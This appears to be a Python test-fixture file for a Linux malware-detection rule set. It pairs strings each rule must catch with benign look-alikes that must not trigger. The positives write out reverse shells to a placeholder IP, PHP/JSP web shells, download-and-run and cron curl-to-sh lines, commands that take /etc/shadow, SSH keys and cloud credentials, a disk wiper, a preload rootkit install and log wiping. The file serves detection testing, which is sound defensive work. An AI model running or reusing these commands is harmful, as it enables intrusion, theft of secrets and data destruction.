"""Content that each bundled rule must find, and content that looks like it and must not be found."""

from __future__ import annotations

ELF = "\x7fELF\x02\x01\x01" + "\0" * 9 + "\x03\0\x3e\0"
"""The beginning of a shared object; positives of rules for programs follow it."""


def elf(*texts: str) -> str:
    return ELF + "\0".join(texts)


def xored(text: str) -> str:
    return "".join(chr(ord(letter) ^ 0x22) for letter in text)


MODULE = ("vermagic=6.1", "init_module")
HITS: dict[str, str] = {
    "mirai_like": elf("/dev/watchdog", "/dev/misc/watchdog", "MIRAI", "TSource Engine Query"),
    "mirai_encoded_table": elf(*map(xored, ("/dev/watchdog", "ncorrect", "/proc/"))),
    "gafgyt_like": elf("PONG!", "GETLOCALIP", "HOLD", "KILLATTK"),
    "tsunami_like": "NOTICE %s :TSUNAMI\0NOTICE %s :PAN <target>",
    "xorddos_like": "BB2FA36AAA9541F0",
    "bpfdoor_like": "/var/run/haldrund.pid\0ttcompat\0/dev/shm/kdmtmpflush",
    "ddos_tool_text": "udpflood synflood AckFlood",
    "irc_bot_commands": "NICK %s\0PRIVMSG %s :\0!flood",
    "telnet_bruteforce_list": "xc3511\0vizxv\0hi3518\0dreambox",
    "xmrig_like": "xmrig randomx cn/r --donate-level",
    "stratum_client": "xmr -o stratum+tcp://pool.example:4444",
    "mining_pool_address": "pool.supportxmr.com:443",
    "miner_rivals_killed": "pkill -9 -f kinsing",
    "kinsing_like": "/tmp/kdevtmpfsi /tmp/kinsing",
    "msr_tuned_for_mining": "modprobe msr; wrmsr -a 0x1a4 0xf; sysctl vm.nr_hugepages=1280",
    "reverse_shell_bash": "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "reverse_shell_python": "import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn('sh')",
    "reverse_shell_perl": 'use Socket;socket(S,PF_INET,1,6);open(STDIN,">&S");exec("/bin/sh -i");',
    "reverse_shell_php": 'php -r \'$s=fsockopen("203.0.113.7",1);exec("/bin/sh -i <&3 >&3");\'',
    "reverse_shell_ruby": 'ruby -rsocket -e\'f=TCPSocket.open("h",1).to_i;exec sprintf("/bin/sh -i <&%d",f)\'',
    "reverse_shell_lua": "lua -e \"require('socket');os.execute('/bin/sh -i')\"",
    "reverse_shell_node": "n=require('net');p=require('child_process');c.pipe(sh.stdin);sh.stdout.pipe(c)",
    "reverse_shell_netcat": "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f",
    "reverse_shell_socat": "socat exec:'bash -li',pty tcp:203.0.113.7:4444",
    "reverse_shell_awk": "awk 'BEGIN {s=\"/inet/tcp/0/h/1\"; s |& getline c}'",
    "reverse_shell_openssl": "mkfifo /tmp/s; /bin/sh -i < /tmp/s | openssl s_client -connect h:1 > /tmp/s",
    "bind_shell_text": "nc -lvp 4444 -e /bin/sh",
    "meterpreter_stage": "core_loadlib stdapi_fs_ls stdapi_sys_process_execute",
    "sliver_implant": "sliverpb.Register github.com/bishopfox/sliver/implant",
    "shell_x86_64_connect_code": "\x6a\x29\x58\x6a\x2a\x58\x6a\x21\x58\x6a\x3b\x58/bin/sh",
    "php_eval_of_request": "<?php @eval($_POST['x']); ?>",
    "php_packed_code": "<?php eval(gzinflate(base64_decode('x'))); ?>",
    "php_shell_brands": "<?php // b374k shell",
    "php_upload_form": "<?php move_uploaded_file($_FILES['f']['tmp_name'],'x'); system($c); ?>",
    "jsp_command_shell": '<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
    "lkm_syscall_hook": elf(*MODULE, "sys_call_table", "kallsyms_lookup_name"),
    "lkm_rootkit_names": elf(*MODULE, "diamorphine_init"),
    "preload_rootkit": elf("readdir64", "dlsym", "/proc/net/tcp", "/proc/self/fd/%d"),
    "preload_rootkit_names": elf("libprocesshider"),
    "preload_installed": "echo /lib/x.so > /etc/ld.so.preload",
    "process_hidden_by_mount": "mount -o bind /tmp/empty /proc/$pid",
    "shadow_and_ssh_keys_taken": "cat /etc/shadow ~/.ssh/id_rsa ~/.aws/credentials ~/.kube/config",
    "browser_secrets_taken": ".mozilla/firefox logins.json key4.db .config/google-chrome",
    "cloud_metadata_taken": "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "passwords_from_memory": "mimipenguin.sh",
    "keylogger_input_events": "/dev/input/event0 keylogger EV_KEY",
    "ransom_note": "All your files have been encrypted! Pay 1 Bitcoin at x.onion",
    "esxi_encryptor": "esxcli vm process kill /vmfs/volumes/ .vmdk encrypt",
    "disk_wiper_script": "dd if=/dev/zero bs=1M of=/dev/sda",
    "memfd_loader_script": "perl -e 'syscall(319,\"\",1)'; /proc/self/fd/3",
    "downloader_for_many_cpus": "wget http://h/mips; wget http://h/arm7; wget h/sh4; wget h/ppc; chmod 777 *",
    "download_run_delete": "wget http://203.0.113.7/x; chmod +x x; ./x; rm -f x",
    "pipe_to_shell_encoded": "echo aWQ= | base64 -d | bash",
    "cron_download": "* * * * * root curl -s http://203.0.113.7/x | sh",
    "security_tools_stopped": "setenforce 0; ufw disable",
    "logs_and_history_wiped": "cat /dev/null > /var/log/wtmp",
    "packed_by_upx": elf("UPX!", "UPX!"),
    "shell_script_compiled_by_shc": elf("E: neither argv[0] nor $_ works.", "x%lx"),
    "python_bundle": elf("_MEIPASS2"),
    "dirty_pipe_shape": "dirty pipe exploit: splice, F_GETPIPE_SZ",
    "dirty_cow_shape": "dirtycow /proc/self/mem madvise",
    "pwnkit_shape": "pkexec GCONV_PATH=. gconv-modules",
    "container_escape_shape": "echo 1 > notify_on_release; echo /cmd > release_agent",
}
MISSES: dict[str, str] = {
    "an article on bots": "Mirai infects cameras through /bin/busybox; its rival Gafgyt answers PONG!",
    "a page on miners": "XMRig is a miner; Stratum is the protocol by which it gets work.",
    "a bash function": 'log() { echo "$(date -u): $*" >&2; exec 3>/tmp/log; }',
    "a python server": "import socket\ns = socket.socket()\ns.bind(('', 80))\ns.listen()\n",
    "a python runner": "import subprocess\nsubprocess.run(['/bin/ls'], check=True)\n",
    "php that reads a form": "<?php $name = htmlspecialchars($_POST['name']); echo $name; ?>",
    "php that decodes a picture": "<?php $data = base64_decode($image); file_put_contents('x.png', $data); ?>",
    "an admin's notes": "the password hashes lie in /etc/shadow, keys in ~/.ssh/id_rsa",
    "a backup script": "tar czf /backup/etc.tgz /etc; rm -rf /backup/old; dd if=/dev/sda of=/backup/disk.img",
    "an installer": "curl -fsSLo x.tgz https://h.example/x.tgz && tar xzf x.tgz && chmod +x bin/x",
    "one architecture": "wget https://h.example/tool-arm64 -O tool; chmod +x tool",
    "log rotation": "/var/log/syslog { rotate 7 daily compress }",
    "a netcat check": "nc -zv db.example 5432",
    "the name of a preload file": "man ld.so says that /etc/ld.so.preload lists libraries",
    "talk of encryption": "Your files are encrypted at rest; only you hold the key.",
    "a library with dlsym": elf("dlsym", "readdir64", "malloc"),
    "an ordinary module": elf("vermagic=6.1", "init_module", "usb_register"),
    "a crontab": "*/5 * * * * root /usr/bin/certbot renew --quiet",
}
